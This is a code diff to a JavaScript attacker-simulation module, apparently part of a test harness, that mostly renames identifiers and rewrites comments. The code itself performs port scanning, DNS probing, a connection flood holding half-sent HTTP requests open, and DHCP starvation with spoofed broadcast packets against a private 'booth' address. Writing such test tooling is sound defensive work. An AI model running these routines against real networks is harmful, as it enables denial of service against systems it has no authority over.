@@ -1,5 +1,5 @@
-// Somebody who knows the passphrase and means no good, in a process and a network of its own: does what it is told by its
-// parent, and tells what came of it. It gives way to others, for they share a processor here, as they would not at a booth.
+// An attacker who knows the passphrase, as a process in its own network namespace: runs attacks for its parent and returns
+// their results. It has a low priority, because here all share a processor, unlike at a booth.
 import dgram from 'node:dgram';
 import http from 'node:http';
 import net from 'node:net';
@@ -9,7 +9,7 @@ import { pause } from '../../lib/wait.mjs';
 
 os.setPriority(19);
 const BOOTH = '10.83.64.1';
-const QUESTION = Buffer.from('00000100000100000000000005626f6f74680000010001', 'hex'); // for the address of `booth`
+const QUESTION = Buffer.from('00000100000100000000000005626f6f74680000010001', 'hex'); // a DNS query for `booth`
 const open = new Set();
 
 const connect = (host, port, ms = 4000) => new Promise((resolve) => {
@@ -33,7 +33,7 @@ const ask = (method, path, headers, body) => new Promise((resolve) => {
   request.on('error', (error) => resolve({ status: 0, text: error.code })).end(body);
 });
 
-const deeds = {
+const attacks = {
   async scan({ host, ports }) {
     const found = {};
     await each(ports, 64, async (port) => {
@@ -44,15 +44,15 @@ const deeds = {
     return found;
   },
   async datagrams({ host, ports }) {
-    const said = [];
+    const answered = [];
     await each(ports, 8, (port) => new Promise((resolve) => {
       const socket = dgram.createSocket('udp4');
       const end = () => { socket.close(); resolve(); };
-      socket.on('message', () => { said.push(port); end(); }).on('error', end);
+      socket.on('message', () => { answered.push(port); end(); }).on('error', end);
       socket.send(QUESTION, port, host);
-      setTimeout(() => { try { end(); } catch { /* it was closed */ } }, 1500);
+      setTimeout(() => { try { end(); } catch { /* closed already */ } }, 1500);
     }));
-    return said;
+    return answered;
   },
   ask: ({ method, path, headers, body }) => ask(method, path, headers, body),
   async guess({ times }) {
@@ -63,24 +63,24 @@ const deeds = {
     }
     return statuses;
   },
-  // Opens as many as it can and keeps what it gets; half of them begin a request that never ends.
-  async crowd({ connections }) {
-    const came = {};
+  // Opens as many connections as it can and keeps them; half of them begin a request that never ends.
+  async flood({ connections }) {
+    const results = {};
     await each(Array.from({ length: connections }, (_, i) => i), 2500, async (i) => {
       const [how, socket] = await connect(BOOTH, 80, 2000);
-      came[how] = (came[how] ?? 0) + 1;
+      results[how] = (results[how] ?? 0) + 1;
       if (how !== 'open') return socket.destroy();
       open.add(socket);
       socket.on('close', () => open.delete(socket));
       if (i % 2) socket.write('GET /api/v1/board HTTP/1.1\r\nHost: booth.internal\r\nX-');
     });
-    return came;
+    return results;
   },
   async leave() {
     for (const socket of open) socket.destroy();
     return open.size;
   },
-  // Asks for an address in the name of many; whoever answers to one is told so.
+  // Requests an address for many simulated phones, and counts the offers.
   async starve({ times }) {
     const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true });
     await new Promise((resolve) => { socket.bind(68, '0.0.0.0', resolve); });
@@ -91,7 +91,7 @@ const deeds = {
       const packet = Buffer.alloc(300);
       packet.set([1, 1, 6, 0]);
       randomBytes(4).copy(packet, 4);
-      packet.writeUInt16BE(0x8000, 10); // to be answered by broadcast
+      packet.writeUInt16BE(0x8000, 10); // answer by broadcast
       packet.set([2, ...randomBytes(5)], 28);
       packet.set([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255], 236);
       await new Promise((resolve) => { socket.send(packet, 67, '255.255.255.255', resolve); });
@@ -103,9 +103,9 @@ const deeds = {
   },
 };
 
-process.on('message', async ({ deed, ...how }) => {
+process.on('message', async ({ attack, ...args }) => {
   try {
-    process.send({ done: await deeds[deed](how) });
+    process.send({ done: await attacks[attack](args) });
   } catch (error) {
     process.send({ error: String(error.stack ?? error) });
   }
